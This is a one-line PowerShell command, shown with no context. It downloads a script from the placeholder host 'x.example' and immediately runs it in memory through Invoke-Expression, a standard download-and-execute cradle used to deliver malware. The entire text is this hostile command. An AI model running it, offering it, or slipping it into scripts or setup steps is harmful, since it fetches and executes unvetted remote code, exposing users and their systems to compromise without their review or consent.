iex (New-Object Net.WebClient).DownloadString('https://x.example/a')
